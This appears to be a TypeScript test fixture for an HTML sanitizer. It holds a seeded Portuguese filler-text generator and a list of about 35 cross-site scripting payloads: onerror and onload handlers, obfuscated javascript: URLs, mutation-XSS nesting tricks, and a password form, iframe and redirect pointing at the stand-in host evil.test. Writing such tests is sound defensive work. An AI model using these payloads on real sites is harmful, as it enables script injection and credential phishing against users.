const words = (
  'pão queijo forno manhã tarde quente fresco saído padaria bairro cliente oferta promoção válida ' +
  'somente unidade pacote quilo enquanto durar estoque retirada balcão entrega consulte regras loja ' +
  'domingo segunda terça quarta quinta sexta sábado feriado horário funcionamento pagamento dinheiro ' +
  'cartão crédito débito desconto acumulativo outra compra mínima máximo pessoa leve pague ganhe ' +
  'bolo café leite açúcar farinha manteiga receita família tradição feito mão com sem para por de da ' +
  'do na no em que não mais ao até desde sobre entre também nosso nossa seu sua todo toda cada'
).split(' ');

/** Returns pseudorandom Portuguese text of exactly `length` characters, the same for the same seed. */
export function prose(length: number, seed: number): string {
  let state = seed + 1;
  let text = '';
  while (text.length < length) {
    // The "minimal standard" generator of Park and Miller (1988).
    state = (state * 48_271) % 2_147_483_647;
    text += `${words[state % words.length]}${state % 11 === 0 ? '. ' : ' '}`;
  }
  return `${text.slice(0, length - 1)}.`;
}

/** HTML that must not become active where it is shown; its scripts would set `window.attacked`. */
export const hostileHtml: readonly string[] = [
  '<script>attacked = 1</script>',
  '<scr<script>ipt>attacked = 1</scr</script>ipt>',
  '<img src=x onerror="attacked = 1">',
  '<img src=x onerror=attacked=1//',
  '<IMG SRC="x" ONERROR="attacked = 1">',
  '<svg onload="attacked = 1"><circle r="9"/></svg>',
  '<svg><style><img src=x onerror="attacked = 1"></style></svg>',
  '<svg><a xlink:href="javascript:attacked=1"><text y="9">a</text></a></svg>',
  '<math><mi xlink:href="javascript:attacked=1">a</mi></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=attacked=1></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=attacked=1>">',
  '<template><img src=x onerror="attacked = 1"></template>',
  '<textarea><img src=x onerror="attacked = 1"></textarea>',
  '<title><img src=x onerror="attacked = 1"></title>',
  '<form action="https://evil.test/"><input name="password"><button>Entrar</button></form>',
  '<select><option>a</option></select>',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=attacked=1>',
  '<iframe src="https://evil.test/"></iframe><object data="x"></object><embed src="x">',
  '<base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test/">',
  '<link rel="stylesheet" href="https://evil.test/a.css"><style>p { color: red }</style>',
  '<p style="position: fixed; inset: 0" onclick="attacked = 1" data-x="1" aria-hidden="true">a</p>',
  '<a href="javascript:attacked=1">a</a>',
  '<a href=" JaVaScRiPt:attacked=1">a</a>',
  '<a href="java\nscript:attacked=1">a</a>',
  '<a href="java\tscript\r:attacked=1">a</a>',
  '<a href="&#1;javascript:attacked=1">a</a>',
  '<a href="&#x6A;avascript&colon;attacked=1">a</a>',
  '<a href="java&Tab;script&NewLine;:attacked=1">a</a>',
  '<a href="java\u200bscript:attacked=1">a</a>',
  '<p id="javascript:attacked=1" class="x javascript :a">a</p>',
  '<a href="vbscript:attacked">a</a>',
  '<a href="data:text/html,<script>attacked = 1</script>">a</a>',
  '<img src="data:image/svg+xml,<svg onload=attacked=1>">',
  '<a href="https://evil.test/" target="_top">a</a>',
  '<custom-element onfocus="attacked = 1" tabindex="0" autofocus>a</custom-element>',
];
